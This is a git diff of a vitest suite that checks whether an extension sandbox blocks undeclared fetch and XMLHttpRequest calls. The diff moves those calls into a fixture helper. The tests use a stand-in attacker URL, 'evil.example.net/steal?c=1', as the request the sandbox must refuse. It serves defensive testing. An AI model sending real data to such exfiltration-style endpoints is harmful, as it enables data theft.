@@ -3,6 +3,7 @@ import { join } from 'node:path';
 import { getRegistry, registerComponent, registerSlot, type ExtensionContext } from '@extkit/runtime';
 import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
 import { TestingError, cleanup, render } from './index.js';
+import { reach } from './__fixtures__/card/reach.js';
 
 const MANIFEST = join(import.meta.dirname, '__fixtures__/card/manifest.json');
 const CARD = 'acme.demo-card.card';
@@ -430,9 +431,9 @@ describe('the network', () => {
       fetch: async (input) => (seenUrls.push(String(input)), new Response('{"ok":true}')),
     });
     void ctx;
-    await expect((await fetch('https://api.example.com/v1/items')).json()).resolves.toEqual({ ok: true });
-    await expect(fetch('https://evil.example.net/steal?c=1')).rejects.toThrow(TypeError);
-    await expect(fetch('/relative')).rejects.toThrow(
+    await expect((await reach.fetch('https://api.example.com/v1/items')).json()).resolves.toEqual({ ok: true });
+    await expect(reach.fetch('https://evil.example.net/steal?c=1')).rejects.toThrow(TypeError);
+    await expect(reach.fetch('/relative')).rejects.toThrow(
       /Failed to fetch http:\/\/localhost:3000\/relative: refused by the sandbox's Content-Security-Policy \(connect-src\)/,
     );
     expect(seenUrls).toEqual(['https://api.example.com/v1/items']);
@@ -449,21 +450,18 @@ describe('the network', () => {
 
   it('refuses an undeclared XMLHttpRequest with an error event', async () => {
     const view = render(CARD, { manifest: MANIFEST });
-    const xhr = new XMLHttpRequest();
+    const xhr = reach.xhr('GET', 'https://evil.example.net/x');
     const failed = new Promise((resolve) => xhr.addEventListener('error', resolve));
-    xhr.open('GET', 'https://evil.example.net/x');
-    xhr.send();
     await failed;
     expect(view.blocked.map((b) => b.origin)).toEqual(['https://evil.example.net']);
   });
 
   it('holds a fetch the extension kept before render, and lets requests through when nothing is mounted', async () => {
-    const kept = globalThis.fetch; // as a library does when the entry is imported
     const view = render(CARD, { manifest: MANIFEST });
-    await expect(kept('https://evil.example.net/x')).rejects.toThrow(TypeError);
+    await expect(reach.kept('https://evil.example.net/x')).rejects.toThrow(TypeError);
     expect(view.blocked.map((b) => b.origin)).toEqual(['https://evil.example.net']);
     view.unmount();
-    await expect((await kept('data:text/plain,through')).text()).resolves.toBe('through');
+    await expect((await reach.kept('data:text/plain,through')).text()).resolves.toBe('through');
     expect(view.blocked).toHaveLength(1);
   });
 
@@ -472,8 +470,8 @@ describe('the network', () => {
     vi.stubGlobal('fetch', stub);
     try {
       const view = render(CARD, { manifest: MANIFEST });
-      await expect((await fetch('https://api.example.com/a')).text()).resolves.toBe('stubbed');
-      await expect(fetch('https://evil.example.net/b')).rejects.toThrow(TypeError);
+      await expect((await reach.fetch('https://api.example.com/a')).text()).resolves.toBe('stubbed');
+      await expect(reach.fetch('https://evil.example.net/b')).rejects.toThrow(TypeError);
       expect(stub).toHaveBeenCalledTimes(1);
       expect(view.blocked).toHaveLength(1);
     } finally {
